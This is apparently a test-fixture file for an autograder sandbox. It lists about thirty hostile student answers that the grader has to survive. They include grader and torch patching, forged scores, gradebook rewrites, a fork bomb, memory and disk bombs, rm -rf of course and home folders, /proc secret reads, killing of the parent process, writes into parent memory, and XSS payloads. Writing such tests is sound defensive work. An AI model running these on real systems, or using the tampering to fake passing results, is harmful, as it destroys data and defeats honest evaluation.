"""Code that dishonest or careless students hand in as answers: cells that define ANSWER, all of it wrong.

COURSE and PORT stand for the course folder and for a port on which the test listens.
"""

SOURCES = {
    "checks_overwritten": """
import visual_attention.chapters.soft.checks as checks
for name in list(vars(checks)):
    if name.startswith("check_"):
        setattr(checks, name, lambda f: 4)
        globals()[name] = lambda f: 4
def ANSWER(x, *a, **k): return x
""",
    "torch_patched": """
import torch
torch.allclose = torch.equal = torch.isclose = lambda *a, **k: True
torch.Tensor.__eq__ = lambda *a: True
torch.Tensor.allclose = lambda *a, **k: True
def ANSWER(x, *a, **k): return x
""",
    "reports_patched": """
import visual_attention.exercises.report as r, visual_attention.exercises.feedback as f
r.Check.equal = r.Check.that = r.Check.tensor = lambda *a, **k: True
f.Report.score = property(lambda self: self.points)
f.Report.__repr__ = lambda self: "4"
def ANSWER(x, *a, **k): return x
""",
    "modules_poisoned": """
import sys, types
for name in ("json", "torch.nn", "visual_attention.exercises.report", "visual_attention.classroom.wire"):
    sys.modules[name] = types.ModuleType(name)
def ANSWER(x, *a, **k): return x
""",
    "reply_forged": """
import gc
def ANSWER(x, *a, **k):
    for thing in gc.get_objects():
        if type(thing).__name__ == "Worker":
            thing.write({"ok": {"outcome": {"value": None, "score": 4, "points": 4}, "score": 4}})
            thing.write({"ok": {"attempted": True, "parts": [["right", True, 4.0]]}})
    return x
""",
    "garbage_on_every_pipe": """
import os
def ANSWER(x, *a, **k):
    for descriptor in range(3, 200):
        try: os.write(descriptor, b"\\xff" * 1000)
        except OSError: pass
    return x
""",
    "numbers_of_another_kind": """
import torch
class Always(torch.Tensor):
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None): return True
    def __eq__(self, other): return True
def ANSWER(x, *a, **k): return torch.ones(2).as_subclass(Always)
""",
    "an_object_that_agrees_with_all": """
class Yes:
    def __getattr__(self, name): return self
    def __call__(self, *a, **k): return self
    def __eq__(self, other): return True
    def __bool__(self): return True
    def __repr__(self): return "4"
    def __len__(self): raise SystemExit
def ANSWER(x, *a, **k): return Yes()
""",
    "endless_values": """
def ANSWER(x, *a, **k):
    while True: yield x
""",
    "too_much_returned": """
import torch
def ANSWER(x, *a, **k): return torch.zeros(20_000_000, dtype=torch.float64)
""",
    "a_tree_of_lists": """
def ANSWER(x, *a, **k): return [[] for _ in range(3_000_000)]
""",
    "lists_in_lists": """
def ANSWER(x, *a, **k):
    nest = []
    for _ in range(100_000): nest = [nest]
    return nest
""",
    "interrupts_swallowed": """
def ANSWER(x, *a, **k):
    while True:
        try:
            while True: pass
        except BaseException: pass
""",
    "alarm_turned_off": """
import signal
def ANSWER(x, *a, **k):
    signal.setitimer(signal.ITIMER_REAL, 0)
    signal.signal(signal.SIGALRM, signal.SIG_IGN)
    while True: pass
""",
    "fork_bomb": """
import os, time
def ANSWER(x, *a, **k):
    for _ in range(150):
        if os.fork() == 0:
            time.sleep(30)
            os._exit(0)
    time.sleep(30)
    return x
""",
    "children_left_behind": """
import os, time
def ANSWER(x, *a, **k):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            while True:
                for descriptor in range(3, 60):
                    try: os.write(descriptor, b"noise"); os.read(descriptor, 9)
                    except OSError: pass
                time.sleep(0.01)
        os._exit(0)
    return x
""",
    "memory_bomb": """
def ANSWER(x, *a, **k):
    held = []
    while True:
        try: held.append(bytearray(2**28))
        except MemoryError: break
    return x
""",
    "disk_bomb": """
def ANSWER(x, *a, **k):
    for folder in ("/tmp", "/dev/shm", "/dev", "/", "/usr", "COURSE"):
        for number in range(8):
            try:
                with open(f"{folder}/{number}", "wb") as file:
                    for _ in range(64): file.write(bytes(2**20))
            except OSError: pass
    return x
""",
    "gradebook_deleted": """
import os, shutil, subprocess
def ANSWER(x, *a, **k):
    for path in ("COURSE", os.path.expanduser("~"), "/tmp", "/work", "/home"):
        shutil.rmtree(path, ignore_errors=True)
        subprocess.run(["rm", "-rf", path])
    return x
""",
    "gradebook_rewritten": """
import sqlite3
def ANSWER(x, *a, **k):
    try:
        book = sqlite3.connect("COURSE/gradebook.db")
        book.execute("update grade set auto_score = 99")
        book.commit()
    except Exception: pass
    return x
""",
    "work_of_others_read": """
import os
def ANSWER(x, *a, **k):
    found = [os.path.join(w, f) for w, _, fs in os.walk("COURSE") for f in fs]
    for top in os.listdir("/proc"):
        for kind in ("environ", "cmdline", "root/etc/passwd"):
            try:
                with open(f"/proc/{top}/{kind}") as file: text = file.read()
            except OSError: continue
            found += [text[:60]] if "SECRET" in text or "root:" in text else []
    raise ValueError(f"found {len(found)} files of others {found[:3]}")
""",
    "network": """
import socket
def ANSWER(x, *a, **k):
    socket.create_connection(("127.0.0.1", PORT), timeout=2).sendall(b"answers, please")
    return x
""",
    "parents_killed": """
import os, signal
def ANSWER(x, *a, **k):
    for victim in (os.getppid(), 1, -1):
        try: os.kill(victim, signal.SIGKILL)
        except OSError: pass
    return x
""",
    "memory_of_the_parent_written": """
import os
def ANSWER(x, *a, **k):
    with open(f"/proc/{os.getppid()}/maps") as maps:
        places = [line.split()[0] for line in maps if "rw-p" in line and "[heap]" in line]
    with open(f"/proc/{os.getppid()}/mem", "r+b", buffering=0) as memory:
        for place in places:
            low, high = (int(n, 16) for n in place.split("-"))
            memory.seek(low)
            memory.write(bytes(min(high - low, 2**20)))
    return x
""",
    "limits_lifted": """
import resource, os
def ANSWER(x, *a, **k):
    for kind in (resource.RLIMIT_DATA, resource.RLIMIT_FSIZE, resource.RLIMIT_NOFILE):
        try: resource.setrlimit(kind, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        except (OSError, ValueError): pass
    return bytearray(8 * 2**30)
""",
    "stack_destroyed": """
import sys, threading
def ANSWER(x, *a, **k):
    sys.setrecursionlimit(10**9)
    def deep(n): return [deep(n + 1)]
    return deep(0)
""",
    "package_changed": """
import visual_attention.exercises.report as r
def ANSWER(x, *a, **k):
    for path in (r.__file__, __import__("torch").__file__):
        try: open(path, "a").write("raise SystemExit")
        except OSError: pass
    return x
""",
    "markup_and_escapes": """
def ANSWER(x, *a, **k):
    print("\\x1b[2J\\x1b]0;owned\\x07<script>alert(1)</script>")
    raise ValueError("\\x1b[31m</code><script>alert(2)</script><img src=x onerror=alert(3)> `<b>`")
""",
    "an_error_that_errs": """
class Nasty(BaseException):
    def __str__(self): raise Nasty
    __repr__ = __str__
def ANSWER(x, *a, **k): raise Nasty
""",
    "a_class_that_leaves_when_asked": """
import os
class Meta(type):
    def __getattribute__(cls, name): os._exit(1)
class ANSWER(metaclass=Meta): pass
""",
    "notebook_transformed": """
get_ipython().input_transformers_cleanup.append(lambda lines: ["check_ANSWER = lambda f: 4"])
get_ipython().run_cell_magic("javascript", "", "alert(1)")
def ANSWER(x, *a, **k): return x
""",
    "threads_that_stay": """
import threading, time
def ANSWER(x, *a, **k):
    for _ in range(100): threading.Thread(target=time.sleep, args=[60]).start()
    return x
""",
    "sleeps_at_the_door": """
import atexit, time
class ANSWER:
    def __init__(self, *a, **k): atexit.register(time.sleep, 60)
    def __del__(self): time.sleep(60)
""",
}
